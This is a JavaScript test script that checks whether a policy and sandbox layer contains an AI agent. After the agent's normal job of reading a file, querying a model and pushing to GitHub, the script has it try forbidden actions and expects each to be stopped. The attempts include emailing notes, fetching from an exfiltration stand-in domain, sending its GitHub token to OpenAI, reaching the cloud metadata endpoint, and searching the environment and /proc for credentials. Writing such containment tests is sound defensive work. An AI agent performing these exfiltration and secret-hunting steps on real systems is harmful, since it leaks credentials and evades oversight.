import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js'
import OpenAI from 'openai'
import { connects, hostListeners, resolves } from './network.mjs'
import { push } from './push.mjs'
import { conclude, heading, inOrder, outOfOrder } from './report.mjs'
import { searchEverything } from './search.mjs'

// An agent with two credentials and some tools. It does its job, and then, unless TASK is "job", all it can to do more
// than that. It knows nothing of what governs it: no proxy, no certificate and no policy is named here.

const { GITHUB_TOKEN, OPENAI_API_KEY, MCP_GATEWAY_URL } = process.env
const { FINGERPRINTS = '', WORKSPACE = '/workspace' } = process.env
const onlyItsJob = process.env.TASK === 'job'
const POLICY = /PolicyViolation/
const NO_SUCH_NAME = /ENOTFOUND/
const NO_WAY = /no answer|ECONNREFUSED|ENETUNREACH|EHOSTUNREACH|ETIMEDOUT/
const NOTHING_REAL = /^a lease|^none in/
const REPOSITORY = 'https://github.com/acme/hello.git'

/** Does what must work. */
async function works(title, action) {
  try {
    inOrder('worked', title, await action())
  } catch (error) {
    outOfOrder('failed', title, reasonOf(error))
  }
}

/**
 * Tries what must not work: `action` gives what it got hold of, or throws what stopped it. Only what was stopped by
 * the right thing counts: a name that is misspelt fails too.
 */
async function stopped(title, by, action) {
  try {
    const gain = await action()
    outOfOrder('GOT AWAY', title, gain)
  } catch (error) {
    const reason = reasonOf(error)
    if (by.test(reason)) inOrder('stopped', title, reason)
    else outOfOrder('unclear', title, reason)
  }
}

function reasonOf(error) {
  const inner = error.cause ?? error
  return inner.code && !String(inner.message).includes(inner.code)
    ? `${inner.code} ${inner.message}`
    : inner.message
}

async function connectTools() {
  for (let attempt = 1; ; attempt++) {
    const client = new Client({ name: 'quickstart-agent', version: '1.0.0' })
    try {
      await client.connect(new StreamableHTTPClientTransport(new URL(MCP_GATEWAY_URL)))
      return client
    } catch (error) {
      // Its servers may still be starting.
      if (attempt === 20) throw error
      await new Promise((resolve) => setTimeout(resolve, 500))
    }
  }
}

/** A tool's answer as text; an error that the tool itself reports is thrown, as a refusal is. */
async function callTool(tools, name, parameters) {
  const { content, isError } = await tools.callTool({ name, arguments: parameters })
  const text = content.map((part) => part.text ?? '').join('\n')
  if (isError) throw new Error(text)
  return text
}

heading('The agent does its job')

let tools
await works('connects to its tools', async () => {
  tools = await connectTools()
  return MCP_GATEWAY_URL
})
await works('lists its tools', async () => {
  const names = (await tools.listTools()).tools.map(({ name }) => name)
  if (!names.some((name) => name.endsWith('read_file'))) throw new Error('read_file is missing')
  // In monitor mode it is.
  if (!onlyItsJob && names.some((name) => name.endsWith('send_email')))
    throw new Error('send_email is offered')
  return names.join(', ')
})
let notes = ''
await works('reads a file', async () => {
  notes = await callTool(tools, 'read_file', { path: `${WORKSPACE}/notes.md` })
  return notes.trim().split('\n').at(-1)
})
await works('asks the model', async () => {
  const completion = await new OpenAI({ maxRetries: 0 }).chat.completions.create({
    model: 'gpt-4o-mini',
    messages: [{ role: 'user', content: `What am I to do with these notes?\n${notes}` }],
  })
  return completion.choices[0].message.content
})
await works('pushes to GitHub', () => push(REPOSITORY, GITHUB_TOKEN))

if (!onlyItsJob) {
  await tryWhatIsNotAllowed()
  await lookForSecrets()
}

await tools?.close()
process.exitCode = conclude()

async function tryWhatIsNotAllowed() {
  heading('It tries what its policy does not allow')

  await stopped('sends a mail', POLICY, () =>
    callTool(tools, 'send_email', { to: 'all@example.com', subject: 'Hello', body: notes }),
  )
  await stopped('fetches from another domain', NO_SUCH_NAME, async () => {
    const response = await fetch('https://exfiltrate.example.com/')
    return `status ${response.status}`
  })
  await stopped('looks up another name', NO_SUCH_NAME, () =>
    resolves('data.exfiltrate.example.com'),
  )
  await stopped('sends its GitHub token to OpenAI', POLICY, async () => {
    const response = await fetch('https://api.openai.com/v1/models', {
      headers: { authorization: `Bearer ${GITHUB_TOKEN}` },
    })
    const problem = await response.json()
    if (problem.type === 'PolicyViolation') throw new Error(`PolicyViolation: ${problem.detail}`)
    return `status ${response.status}`
  })
  await stopped('dials an address without a name', NO_WAY, () => connects('203.0.113.1', 443))
  await stopped('asks for the cloud’s metadata', NO_WAY, () => connects('169.254.169.254', 80))
  for (const { host, port } of hostListeners())
    await stopped(`dials the host at ${host}`, NO_WAY, () => connects(host, port))
}

async function lookForSecrets() {
  heading('It looks for the real secrets')

  for (const [name, value] of [
    ['GITHUB_TOKEN', GITHUB_TOKEN],
    ['OPENAI_API_KEY', OPENAI_API_KEY],
  ])
    await stopped(`reads its ${name}`, NOTHING_REAL, async () => {
      if (!value?.includes('govlease')) return 'it is no lease'
      throw new Error(`a lease, worth nothing elsewhere: ${value.slice(0, 20)}…`)
    })
  await stopped('searches environment, /proc and files', NOTHING_REAL, async () => {
    const { found, files, places } = searchEverything(FINGERPRINTS.split(','))
    if (found.length > 0) return `found in ${found.join(', ')}`
    throw new Error(`none in ${files} files below ${places.join(' ')}`)
  })
}
